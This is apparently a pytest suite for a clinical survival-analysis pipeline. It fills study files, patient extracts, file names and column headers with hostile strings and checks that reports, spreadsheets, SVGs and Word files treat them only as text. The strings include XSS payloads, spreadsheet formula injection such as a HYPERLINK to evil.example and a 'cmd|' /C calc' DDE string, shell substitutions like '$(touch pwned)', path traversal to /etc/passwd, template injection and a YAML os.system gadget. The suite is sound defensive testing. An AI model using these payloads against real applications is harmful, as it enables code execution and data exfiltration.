"""Whatever a cohort's files hold is text: in pages, pictures, tables, documents, on the command line and as a path.

The extract and its study file carry what breaks other programs (markup, formulas, shell, templates, wildcards, TeX,
marks of direction) in every place where text can stand, and the study asks for every kind of table and figure.
"""

import csv
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from datetime import date, timedelta
from itertools import cycle
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
import yaml
from playwright.sync_api import Browser

from peritrace.__main__ import main
from peritrace.files import read_csv, sha256
from peritrace.problems import InputRefused
from peritrace.study_file import load_study
from tests.browser.conftest import visit
from tests.workflow.workspace import Run, Workspace, copy_project

SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
SVG = "<svg onload=alert(1)><foreignObject>"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'
CLOSING = "</title></style></script></desc>]]> --> <!-- <![CDATA["
# Every one of these stands in several places: none may be run, opened, rendered, hidden or filled in.
HOSTILE = (
    SCRIPT,
    IMAGE,
    SVG,
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "../../../escaped",
    "/etc/passwd",
    "C:\\escaped",
    "$(touch pwned)",
    "`touch pwned`",
    "; touch pwned #",
    "{study} {wildcards.study} {0} {input[0]}",
    "{{ 7*7 }} {% raw %}",
    "$\\frac$ a$b$c",
    "_A",
    CLOSING,
    "&lt;b&gt; &#x3c; %s %(x)s",
    "javascript:alert(1)",
    "Pneumonoultramicroscopicsilicovolcanoconiosis" * 4,
    "🙂 é",
    "完全切除 شفاء",
)
LEVELS = (SCRIPT, FORMULA, "_A", "../../../escaped", "{study} {{ 7*7 }} $x$", "完全切除 🙂 `touch pwned`")
CODES = ("<b>1</b>", "{wildcards.study}", "$(touch pwned)", "../../x", "C:\\", "=1+1")
PATIENTS = 24
STUDY, OTHER = "hostile", "hostile-other"
FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[-+]\d+(\.\d+)?([eE][-+]?\d+)?")
OURS = ("results", "reports", "logs", ".snakemake")  # what a run may write to, of the project

Rows = list[dict[str, object]]


def study_file(study_id: str, extract: str, other: str | None = None) -> dict[str, Any]:
    """A study of the cohort with hostile text in each of its texts; `other` is set beside it."""
    text = cycle(HOSTILE)

    def column(name: str, kind: str, source: str, **keys: object) -> dict[str, object]:
        return {"name": name, "type": kind, "source": source, "label": f"{next(text)} {name}", **keys}

    def headed(name: str, kind: str, source: str, **keys: object) -> dict[str, object]:
        """A column whose label begins with the hostile text alone."""
        return column(name, kind, source, **keys) | {"label": source}

    dates = [column(name, "date", header, format="%Y-%m-%d") for name, header in zip(DATES, DATE_HEADERS, strict=True)]
    levels = dict(zip(CODES, LEVELS, strict=True))
    columns = [
        headed("subject", "identifier", FORMULA),
        headed("age", "number", SCRIPT, unit=IMAGE),
        headed("pci", "number", "{wildcards.study}"),
        headed("cc_score", "category", "$(touch pwned)", levels={"0": "+CC0", "1": SVG, "2": "-CC2", "3": "@CC3"}),
        headed("site", "category", "../../../escaped", levels=levels, printed_in=CLOSING),
        headed("status", "category", "完全切除 شفاء", levels={"<0>": IMAGE, "{1}": "=dead"}),
        headed("note", "text", "_A"),
        *dates,
    ]
    dead = {"column": "status", "equals": ["=dead"]}
    progressed = {"column": "progression", "present": True}
    causes = [{"label": FORMULA, "any": [progressed]}, {"label": f"{SVG} {{study}}", "otherwise": True}]
    endpoints = [
        {
            "code": "OS1",
            "label": f"{SCRIPT} {{0}}",
            "origin": IMAGE,
            "end": "{{ 7*7 }}",
            "time": {"start": "diagnosis", "event": ["death"], "censor": "last_contact", "entry": "surgery"},
            "events": [{"code": "OS1", "description": FORMULA, "any": [dead], "why": CLOSING}],
        },
        {
            "code": "OS2",
            "label": FORMULA,
            "origin": "$\\frac$ a$b$c",
            "time": {"start": "surgery", "event": ["death"], "censor": "last_contact"},
            "events": [{"code": "OS2", "description": SCRIPT, "any": [dead]}],
            "inferred": True,
        },
        {
            "code": "PFS",
            "label": "-_A {{ 7*7 }}",
            "origin": CLOSING,
            "time": {"start": "surgery", "event": ["progression", "death"], "censor": "last_contact"},
            "events": [
                {"code": "PFS", "description": SVG, "any": [dead, progressed], "causes": causes},
                {"code": "PFSALL", "description": IMAGE, "any": [progressed], "why": SCRIPT},
            ],
        },
    ]
    groups = [
        {
            "name": "pci_group",
            "label": "=PCI+group",
            "column": "pci",
            "levels": [{"label": "_A", "below": 15}, {"label": FORMULA, "at_least": 15}],
            "why": IMAGE,
        },
        {
            "name": "noted",
            "label": SVG,
            "column": "note",
            "levels": [{"label": "{study} $x$", "contains": ["pwned", "<"]}, {"label": "../../x", "otherwise": True}],
            "why": SCRIPT,
        },
        {
            "name": "six",
            "label": CLOSING,
            "column": "age",
            "levels": [{"label": label, "below": 40 + 8 * place} for place, label in enumerate(LEVELS[:5], start=1)]
            + [{"label": LEVELS[5], "otherwise": True}],
        },
    ]
    return {
        "id": study_id,
        "title": " ".join((SCRIPT, IMAGE, "{study} {{ 7*7 }} $\\frac$ `touch pwned` =1+1"))[:300],
        "short_title": f"{FORMULA} {study_id}",
        "citation": {
            "authors": IMAGE,
            "journal": SCRIPT,
            "year": 2024,
            "volume": FORMULA,
            "doi": "javascript:alert(1)",
        },
        "about": list(HOSTILE),
        "limits": list(HOSTILE),
        "source": {"patients": extract, "rows": PATIENTS},
        "columns": columns,
        "groups": groups,
        "exclude": [{"label": IMAGE, "any": [{"column": "pci", "at_least": 39}], "why": FORMULA}],
        "endpoints": endpoints,
        "exposures": [{"name": "started", "label": IMAGE, "column": "adjuvant", "endpoint": "OS2"}],
        "analyses": analyses(),
        "compare": [other] if other else [],
        "audit": {"software": SCRIPT, "stated": {IMAGE: ["log-rank"]}},
        "figures": list(figures()),
        "tables": list(tables(other)),
    }


DATES = ("diagnosis", "surgery", "adjuvant", "progression", "death", "last_contact")
DATE_HEADERS = ("`touch pwned`", "; touch pwned #", "C:\\escaped", "{{ 7*7 }}", "-->", "a$b$c")


def analyses() -> dict[str, object]:
    """Everything that can be estimated."""
    factors = {"endpoint": "OS2", "univariable": ["age", "pci", "pci_group", "site", "noted"], "label": SCRIPT}
    return {
        "time_points": [12, 24],
        "follow_up": "OS2",
        "describe": ["age", "pci", "cc_score", "site", "status", "pci_group", "noted", "six"],
        "describe_by": ["pci_group", "site"],
        "tests_by": ["pci_group"],
        "compare": [
            {"endpoint": code, "by": by} for code in ("OS1", "OS2", "PFS") for by in ("pci_group", "site", "six")
        ],
        "associate": [{"variable": "pci", "with": "site"}, {"variable": "pci_group", "with": "noted"}],
        "models": [
            {"id": "cox", "kind": "cox", "endpoint": "OS2", "covariates": ["pci_group", "age"], "label": FORMULA},
            {"id": "logistic", "kind": "logistic", "endpoint": "OS2", "covariates": ["noted"], "label": IMAGE},
        ],
        "factors": [{"id": "factors", "multivariable": ["age", "pci_group"], **factors}],
        "restricted_mean": [24],
        "incidence": [{"endpoint": "PFS"}, {"endpoint": "PFS", "by": "pci_group"}],
        "landmarks": [{"id": "late", "endpoint": "OS2", "exposure": "started", "at": [3]}],
    }


def figures() -> Iterator[dict[str, object]]:
    """Every kind of figure."""
    wanted: list[dict[str, object]] = [
        {"kind": "survival", "endpoint": "OS1"},
        {"kind": "survival", "endpoint": "OS2", "by": "pci_group"},
        {"kind": "survival", "endpoint": "PFS", "by": "site"},
        {"kind": "survival", "endpoint": "PFS", "by": "six"},
        {"kind": "points", "variable": "age", "by": "site"},
        {"kind": "swimmer", "total": "OS1", "observed": "OS2", "progression": "PFS", "by": "six"},
        {"kind": "cumulative-incidence", "endpoint": "PFS"},
        {"kind": "cumulative-incidence", "endpoint": "PFS", "by": "pci_group"},
        {"kind": "factors", "factors": "factors"},
        {"kind": "factors", "factors": "factors", "model": "univariable"},
    ]
    for number, (keys, title, printed) in enumerate(zip(wanted, cycle(HOSTILE), cycle(reversed(HOSTILE)))):
        yield {"id": f"fig-{number}", "title": title, **keys} | ({"printed_as": printed} if number % 2 else {})


def tables(other: str | None) -> Iterator[dict[str, object]]:
    """Every kind of table."""
    shown = ["subject", "age", "pci", "cc_score", "site", "status", "note"]
    wanted: list[dict[str, object]] = [
        {"kind": "rows", "columns": shown},
        {"kind": "characteristics"},
        {"kind": "characteristics", "by": "pci_group"},
        {"kind": "characteristics", "by": "site"},
        {"kind": "missing"},
        {"kind": "survival"},
        {"kind": "follow-up"},
        {"kind": "life-table", "endpoint": "OS2"},
        {"kind": "comparisons"},
        {"kind": "models"},
        {"kind": "factors", "factors": "factors"},
        {"kind": "proportional-hazards"},
        {"kind": "restricted-mean"},
        {"kind": "incidence"},
        {"kind": "landmarks"},
        {"kind": "associations"},
        *([{"kind": "beside", "other": other}] if other else []),
    ]
    for number, (keys, title) in enumerate(zip(wanted, cycle(reversed(HOSTILE)))):
        yield {"id": f"table-{number}", "title": title, "notes": [IMAGE] if number else list(HOSTILE), **keys}


def patients(study: Mapping[str, Any]) -> Rows:
    """The cohort by its headers: hostile codes and notes, sound dates."""
    notes = cycle(text for text in HOSTILE if text[0] not in FORMULA_SIGNS)
    named = {column["name"]: column["source"] for column in study["columns"]}
    rows: Rows = []
    for number in range(PATIENTS):
        diagnosed = date(2018, 1, 1) + timedelta(days=17 * number)
        operated = diagnosed + timedelta(days=30 + number)
        last = operated + timedelta(days=200 + 37 * (number % 11) + 11 * number)
        dead = number % 3 != 0
        row = {
            "subject": f"P{number + 1}",
            "age": 40 + 2 * number,
            "pci": (7 * number) % 31,
            "cc_score": number % 4,
            "site": CODES[number % 6],
            "status": "{1}" if dead else "<0>",
            "note": next(notes),
            "diagnosis": diagnosed.isoformat(),
            "surgery": operated.isoformat(),
            "adjuvant": (operated + timedelta(days=40 + number)).isoformat() if number % 2 else "",
            "progression": (operated + timedelta(days=90 + 5 * number)).isoformat() if number % 4 else "",
            "death": last.isoformat() if dead else "",
            "last_contact": last.isoformat(),
        }
        rows.append({named[name]: value for name, value in row.items()})
    return rows


def write_extract(path: Path, rows: Rows) -> None:
    """As CSV or as a workbook, by the name."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.suffix == ".xlsx":
        book = openpyxl.Workbook()
        sheet = book.active
        sheet.append(list(rows[0]))
        for row in rows:
            sheet.append([None if value == "" else value for value in row.values()])
        for cells in sheet.iter_rows():
            for cell in cells:
                if isinstance(cell.value, str):
                    cell.data_type = "s"  # text, also where it begins like a formula
        book.save(path)
    else:
        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)


def set_up(folder: Path, extracts: Mapping[str, str]) -> Workspace:
    """A project with the hostile study and its like, to be set beside it; `extracts` names the files of both."""
    project = copy_project(folder, STUDY, OTHER)
    for study_id, other in ((STUDY, OTHER), (OTHER, None)):
        study = study_file(study_id, extracts[study_id], other)
        if other is None:
            study |= {"figures": study["figures"][:1], "tables": study["tables"][:1]}
            study["analyses"] = {key: study["analyses"][key] for key in ("time_points", "follow_up", "describe")}
        write_study(project, study)
        write_extract(project.folder / extracts[study_id], patients(study))
    return project


def write_study(project: Workspace, study: Mapping[str, Any]) -> Path:
    path = project.folder / f"config/studies/{study['id']}.yaml"
    path.write_text(yaml.safe_dump(dict(study), allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


@dataclass
class Site:
    """A run, and the files around it before."""

    project: Workspace
    run: Run
    before: dict[Path, str]

    @property
    def around(self) -> Path:
        """The folder that holds the project and the user's home."""
        return self.project.folder.parents[1]

    def files(self, pattern: str) -> list[Path]:
        """Results and reports of that name; there are some."""
        found = [path for top in OURS[:2] for path in sorted((self.project.folder / top).rglob(pattern))]
        assert found
        return found


def digests(folder: Path) -> dict[Path, str]:
    return {path: sha256(path) for path in folder.rglob("*") if path.is_file()}


def run_in(folder: Path, project: Workspace, *targets: str) -> Site:
    """Run Snakemake in a project with a home of its own."""
    home = folder / "home"
    home.mkdir()
    before = digests(folder)
    return Site(project, project.snakemake("--cores", "2", *targets, HOME=str(home)), before)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """Everything that the study asks for."""
    folder = tmp_path_factory.mktemp("hostile")
    extracts = dict.fromkeys((STUDY, OTHER), "resources/hostile/extract.csv")
    return run_in(folder, set_up(folder / "outer/project", extracts))


@pytest.fixture(scope="module")
def others(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """A workbook with a hostile name, and an extract with errors in columns with hostile headers."""
    folder = tmp_path_factory.mktemp("others")
    extracts = {STUDY: f"resources/in/{NAMES[0]}.xlsx", OTHER: f"../{NAMES[1]}.csv"}
    project = set_up(folder / "outer/project", extracts)
    broken = patients(study_file(OTHER, ""))
    for row, header in zip(broken, broken[0], strict=False):
        row[header] = "=1+1"
    write_extract(project.folder / extracts[OTHER], broken)
    targets = [f"reports/{study_id}-validation.html" for study_id in (STUDY, OTHER)]
    return run_in(folder, project, *targets)


NAMES = (
    'a b $(touch pwned) `touch pwned` it\'s "x" 100%',
    "; touch pwned # {{ 7*7 }} a*b?[c] & | > escaped",
    "-x",
    "--help",
    "{wildcards.study}",
    "=1+1",
    "<script>alert(1)<",
    "完全切除 🙂",
    "a\nb",
    "..",
    "~",
)


def stray(site: Site) -> list[Path]:
    """Files that were written where nothing belongs, changed, or taken away; caches of other programs are theirs."""
    after = digests(site.around)
    ours = tuple(site.project.folder / top for top in OURS)
    theirs = tuple(site.around / "home" / top for top in (".cache", ".config"))
    changed = [path for path in site.before if after.get(path) != site.before[path]]
    new = [path for path in after if path not in site.before and path.suffix != ".pyc"]
    return [*changed, *(path for path in new if not any(map(path.is_relative_to, (*ours, *theirs))))]


def test_a_hostile_cohort_runs(site: Site, others: Site) -> None:
    assert site.run.code == 0, site.run.text
    assert others.run.code == 0, others.run.text
    assert "Traceback" not in site.run.text + others.run.text


def test_nothing_is_written_elsewhere(site: Site, others: Site) -> None:
    for one in (site, others):
        assert stray(one) == []
        assert not any(path.name in ("pwned", "escaped") for path in one.around.rglob("*"))


def test_a_workbook_gives_the_same_patients(site: Site, others: Site) -> None:
    first, second = (one.project.folder / f"results/{STUDY}/intake/patients.csv" for one in (site, others))
    assert first.read_bytes() == second.read_bytes()
    assert len(read_csv(first)) == PATIENTS


ELEMENTS = """() => ({
    scripts: document.scripts.length,
    strange: [...document.querySelectorAll('iframe, object, embed, form, base, foreignObject, b, [src=x]')].length,
    handlers: [...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => n.startsWith('on')),
    links: [...document.querySelectorAll('[href], [src]')].map(e => e.getAttribute('href') || e.getAttribute('src')),
    width: document.documentElement.scrollWidth,
    broken: [...document.images].filter(i => !i.complete || !i.naturalWidth).length,
    text: document.body.innerText,
})"""
LINK = re.compile(
    r"data:[^;,]*[;,].*|#.*|[a-z0-9-]+\.html(#[\w-]*)?|all-(ard|verdicts)\.csv|\.\./results/[a-z-]+/trace/[a-z]+\.json",
    re.DOTALL,
)


@pytest.mark.parametrize("width", [1280, 360])
def test_pages_hold_text_and_nothing_that_runs(site: Site, others: Site, browser: Browser, width: int) -> None:
    pages = [page for one in (site, others) for page in sorted((one.project.folder / "reports").glob("*.html"))]
    assert len(pages) == 8
    context = browser.new_context(viewport={"width": width, "height": 900}, is_mobile=width < 500)
    for page in pages:
        seen = visit(context, page)
        found = seen.page.evaluate(ELEMENTS)
        seen.page.close()
        assert seen.complaints == [], page.name
        assert seen.requests == [], page.name
        assert (found["scripts"], found["strange"], found["handlers"], found["broken"]) == (1, 0, [], 0), page.name
        assert found["width"] <= width, page.name
        assert [link for link in found["links"] if not LINK.fullmatch(link)] == [], page.name
        if page.name == f"{STUDY}.html":
            assert [text for text in HOSTILE if text not in found["text"]] == []
    context.close()


def test_pictures_are_pictures(site: Site) -> None:
    pictures = site.files("*.svg")
    assert len(pictures) == 12  # with the figure of evidence, which all studies share
    for path in pictures:
        for element in ET.parse(path).getroot().iter():
            tag = element.tag.rpartition("}")[2]
            assert tag in {"svg", "g", "path", "use", "defs", "clipPath", "rect", "title", "desc"}, path.name
            names = [name.rpartition("}")[2] for name in element.attrib]
            assert not any(name.startswith("on") for name in names), path.name
            assert all(element.attrib[name].startswith("#") for name in element.attrib if name.endswith("href"))


def formulas(path: Path) -> dict[str, str]:
    """A cell of each column that a spreadsheet would run."""
    with path.open(encoding="utf-8", newline="") as handle:
        header, *rows = csv.reader(handle, strict=True)
    cells = [("header", cell) for cell in header]
    cells += [(name, cell) for row in rows for name, cell in zip(header, row, strict=True)]
    return {name: cell for name, cell in cells if cell.startswith(FORMULA_SIGNS) and not NUMBER.fullmatch(cell)}


def test_lists_for_people_run_no_formula(site: Site, others: Site) -> None:
    lists = [*site.files("tabulate/*.csv"), *site.files("*-validation.csv"), *others.files("*-validation.csv")]
    assert {path.name: found for path in lists if (found := formulas(path))} == {}
    assert len(read_csv(others.project.folder / f"reports/{OTHER}-validation.csv")) > 9
    assert any("'=" in path.read_text(encoding="utf-8") for path in lists)


def test_the_data_behind_a_figure_run_no_formula(site: Site) -> None:
    assert {path.name: found for path in site.files("draw/*.csv") if (found := formulas(path))} == {}


def test_documents_hold_the_text(site: Site) -> None:
    documents = site.files("*.docx")
    assert len(documents) == 18
    told = ""
    for path in documents:
        document = docx.Document(str(path))
        told += "\n".join(paragraph.text for paragraph in document.paragraphs)
        told += "\n".join(cell.text for table in document.tables for row in table.rows for cell in row.cells)
        assert document.element.xpath("//w:fldChar | //w:instrText | //w:hyperlink | //w:object") == [], path.name
    assert [text for text in HOSTILE if text not in told] == []


# What a study file may not say


@pytest.mark.parametrize(
    ("section", "key", "value"),
    [
        ("", "id", "../../escaped"),
        ("", "compare", ["$(touch pwned)"]),
        ("figures", "id", "../../escaped"),
        ("figures", "id", "{study}"),
        ("figures", "id", "a\n"),
        ("tables", "id", "/etc/passwd"),
        ("tables", "id", "=1+1"),
        ("columns", "name", "$(touch pwned)"),
        ("groups", "name", "../x"),
        ("endpoints", "code", "{wildcards.study}"),
        ("exposures", "name", "<script>"),
    ],
)
def test_a_name_that_becomes_a_path_is_refused(tmp_path: Path, section: str, key: str, value: object) -> None:
    study = study_file(STUDY, "extract.csv")
    part = study[section][0] if section else study
    part[key] = value
    path = tmp_path / f"{STUDY}.yaml"
    path.write_text(yaml.safe_dump(study), encoding="utf-8")
    with pytest.raises(InputRefused) as refused:
        load_study(path)
    assert any(problem.column.endswith(key) or key in problem.column for problem in refused.value.problems)


@pytest.mark.parametrize("sign", ["\u202e", "\u2066", "\x1b[31m", "\0", "\u2028", "\n", "\u200b"])
def test_text_that_would_turn_numbers_round_is_refused(tmp_path: Path, sign: str) -> None:
    """A label with a mark of direction shows the "(n = 12)" behind it as "(21 = n)"."""
    study = study_file(STUDY, "extract.csv")
    study["groups"][0]["levels"][0]["label"] = f"a{sign}b"
    path = tmp_path / f"{STUDY}.yaml"
    path.write_text(yaml.safe_dump(study), encoding="utf-8")
    with pytest.raises(InputRefused):
        load_study(path)


# The commands


HEADERS = (
    *("a: b", "# c", "x\n- evil: 1\nid: other", "&anchor", "*alias", "!!python/object/apply:os.system ['touch pwned']"),
    *("%YAML", "@at", "- dash", "? q", "| pipe", "'single", '"double', "{flow: 1}", "[1, 2]", "~", "null", "=1+1"),
    *("\x1b[31mred", "\u202eabc", "\u2028ls", "x" * 2000, " spaced ", "", "dup", "dup", "\ttab", "---", "<<"),
    *HOSTILE,
)
CELLS = (("0", "1"), ("12.5", "13.5"), ("2020-01-01", "2021-02-03"), ("=1+1", "+2"), ("a\nb", "c: d # e"), HOSTILE)


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Workspace:
    """A project with the hostile study, in which commands run."""
    made = set_up(tmp_path / "outer/project", dict.fromkeys((STUDY, OTHER), "resources/in/extract.csv"))
    monkeypatch.chdir(made.folder)
    monkeypatch.setenv("HOME", str(tmp_path))
    return made


def written(project: Workspace, before: Mapping[Path, str]) -> set[str]:
    """What appeared or changed around a project, by its path from there."""
    after = digests(project.folder.parents[1])
    return {path.relative_to(project.folder).as_posix() for path in after if after[path] != before.get(path)}


def test_commands_take_every_name_of_a_file(project: Workspace, capsys: pytest.CaptureFixture[str]) -> None:
    raw = (project.folder / "resources/in/extract.csv").read_bytes()
    paths = [f"resources/in/{name}.csv" for name in NAMES]
    for path in paths:
        (project.folder / path).write_bytes(raw)
    before = digests(project.folder.parents[1])
    for path in paths:
        assert main(["validate", OTHER, "--extract", path]) == 0, path
        assert main(["new-study", "mine", path, "--force"]) == 0, path
        assert load_study("config/studies/mine.yaml").source.patients == path  # type: ignore[union-attr]
    assert main(["diff", *paths[:2], "--study", OTHER, "--out", NAMES[1]]) == 0
    assert "Traceback" not in "".join(capsys.readouterr())
    changes = {f"{NAMES[1]}/{table}.csv" for table in ("rows", "distributions", "results")}
    assert written(project, before) == {"config/studies/mine.yaml", *changes}


@pytest.mark.parametrize("cells", CELLS, ids=range(len(CELLS)))
def test_new_study_takes_every_header(
    project: Workspace, capsys: pytest.CaptureFixture[str], cells: tuple[str, ...]
) -> None:
    path = project.folder / "resources/in/headers.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", *HEADERS])
        writer.writerows(
            [f"P{row}", *(cells[(row + place) % len(cells)] for place in range(len(HEADERS)))] for row in range(20)
        )
    before = digests(project.folder.parents[1])
    assert main(["new-study", "mine", "resources/in/headers.csv"]) == 1  # two headers are one, and one is empty
    proposed = project.folder / "config/studies/mine.yaml"
    assert load_study(proposed).id == "mine"
    assert all(letter.isprintable() or letter == "\n" for letter in proposed.read_text(encoding="utf-8"))
    assert main(["validate", "mine"]) == 2
    told = capsys.readouterr()
    assert all(letter.isprintable() or letter == "\n" for letter in told.out + told.err)
    assert written(project, before) == {"config/studies/mine.yaml"}


def test_new_study_takes_a_header_that_can_not_be_shown(project: Workspace) -> None:
    rows = [{"id": f"P{row}", "\ue000": str(row % 2), "age": str(40 + row)} for row in range(20)]
    write_extract(project.folder / "resources/in/headers.csv", list(rows))
    assert main(["new-study", "mine", "resources/in/headers.csv"]) == 0


def test_new_study_refuses_a_name_of_a_file_that_is_not_text(
    project: Workspace, capsys: pytest.CaptureFixture[str]
) -> None:
    path = b"resources/in/\xff.csv".decode("utf-8", "surrogateescape")
    (project.folder / path).write_bytes((project.folder / "resources/in/extract.csv").read_bytes())
    assert main(["new-study", "mine", path]) == 2


def test_an_extract_named_like_a_wildcard_ends_no_other_study(project: Workspace) -> None:
    path = "resources/in/{study}.csv"
    (project.folder / path).write_bytes((project.folder / "resources/in/extract.csv").read_bytes())
    write_study(project, study_file(STUDY, path, OTHER))
    run = project.snakemake("-n")
    assert run.code == 0, run.text
    assert f"{OTHER}: validating the extract" in run.text
    assert f"{STUDY}: the study file is wrong" in run.text
